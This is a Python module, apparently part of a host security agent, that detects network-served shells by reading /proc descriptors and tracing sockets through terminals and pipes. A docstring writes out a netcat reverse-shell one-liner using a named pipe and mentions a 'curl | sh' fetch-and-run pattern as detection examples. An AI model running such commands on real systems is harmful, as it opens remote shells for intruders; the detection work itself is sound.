"""Is this shell served over the network? Looks at descriptors, as few as answer the question."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterable
from typing import Final, NamedTuple

from garrison.workers.process import rules
from garrison.workers.process.detect import Policy, reads_stdin
from garrison.workers.process.facts import Process
from garrison.workers.process.sockets import Connection, connection_of, inode_of

MAX_HOLDERS: Final = 16
"""Most processes whose descriptors are looked at for one shell."""

MAX_FDS: Final = 256
"""Most descriptors of one process that are looked at."""

_PIPE: Final = "pipe:["


class ShellFinding(NamedTuple):
    """What serves a shell.

    Attributes:
        rule: The rule that matched.
        fd: The descriptor with the socket.
        holder: Who has the socket: the shell itself, or the process at the other end of its pipes or terminal.
        connection: The connection.
    """

    rule: rules.Rule
    fd: int
    holder: Process
    connection: Connection


def links(pid: int, count: int = 2) -> tuple[str, ...]:
    """Return what the first descriptors of a process lead to; empty texts where closed or gone."""
    found = []
    for fd in range(count):
        try:
            found.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            found.append("")
    return tuple(found)


def inspect(
    shell: Process, policy: Policy, parents: list[Process], relatives: Iterable[Process], seen: tuple[str, ...]
) -> ShellFinding | None:
    """Return what serves a shell over the network, or None.

    Args:
        shell: The shell.
        policy: Whom to trust.
        parents: Its ancestors, nearest first.
        relatives: Living processes of its process group and session; only taken from as needed.
        seen: `links` of the shell, three of them.
    """
    parent = parents[0] if parents else None
    if not policy.trusts_socket_parent(parent.image if parent else None):
        found = _own_socket(shell, policy, seen, rules.SHELL_SOCKET)
        if found is not None:
            return found
    if seen[0].startswith("/dev/pts/"):
        if parent is None or parent.exited is not None or parent.shell or policy.trusts_holder(parent.image):
            return None
        return _own_socket(parent, policy, links(parent.pid), rules.SHELL_TERMINAL)
    image = shell.image
    if image is None or not reads_stdin(image) or not _is_pipe(shell.pid, 0, seen[0]):
        return None
    if seen[1] == seen[0] or not _is_pipe(shell.pid, 1, seen[1]):
        return None
    return _through_pipes(shell, policy, [*parents, *relatives], seen[0], seen[1])


def _own_socket(process: Process, policy: Policy, seen: tuple[str, ...], rule: rules.Rule) -> ShellFinding | None:
    tried: set[str] = set()
    for fd, link in enumerate(seen):
        if inode_of(link) is None or link in tried:
            continue
        tried.add(link)
        connection = connection_of(process.pid, fd, link)
        if connection is not None and (policy.loopback or not connection.loopback):
            return ShellFinding(rule, fd, process, connection)
    return None


def _is_pipe(pid: int, fd: int, link: str) -> bool:
    """A named pipe's link is its path; only those need a look at what the path is."""
    if link.startswith(_PIPE):
        return True
    # Terminals and /dev/null are the usual case and need no look; a named pipe in /dev/shm is one all the same.
    device = link.startswith("/dev/") and not link.startswith("/dev/shm/")  # noqa: S108 - looked for, not used
    if device or not link.startswith("/"):
        return False
    try:
        return stat.S_ISFIFO(os.stat(f"/proc/{pid}/fd/{fd}").st_mode)
    except OSError:
        return False


class _Holder(NamedTuple):
    process: Process
    fds: dict[int, str]


def _through_pipes(
    shell: Process, policy: Policy, candidates: list[Process], source: str, sink: str
) -> ShellFinding | None:
    """Find one that has both pipes and a connection.

    For ``mkfifo f; cat f | sh | nc HOST > f`` the pipe into the shell is held by cat, and the named pipe that
    cat reads is held by nc: a named pipe may stand between. Anonymous ones may not, else ``curl … | sh``
    below any service that talks to the network would match.
    """
    holders: list[_Holder] = []
    named: set[str] = set()
    asked = {shell.pid}
    for candidate in candidates:
        if len(asked) > MAX_HOLDERS:
            break
        if candidate.pid in asked or candidate.exited is not None:
            continue
        asked.add(candidate.pid)
        fds = _descriptors(candidate.pid)
        held = set(fds.values())
        if source in held:
            named.update(link for fd, link in fds.items() if link.startswith("/") and _is_pipe(candidate.pid, fd, link))
        if sink in held and not policy.trusts_holder(candidate.image):
            holders.append(_Holder(candidate, fds))
    for holder in holders:
        held = set(holder.fds.values())
        if source not in held and not named & held:
            continue
        for fd, link in holder.fds.items():
            connection = connection_of(holder.process.pid, fd, link)
            if connection is not None and (policy.loopback or not connection.loopback):
                return ShellFinding(rules.SHELL_PIPE, fd, holder.process, connection)
    return None


def _descriptors(pid: int) -> dict[int, str]:
    found: dict[int, str] = {}
    try:
        with os.scandir(f"/proc/{pid}/fd") as entries:
            for entry in entries:
                if len(found) >= MAX_FDS:
                    break
                try:
                    found[int(entry.name)] = os.readlink(entry.path)
                except OSError:
                    continue
    except OSError:
        return found
    return found
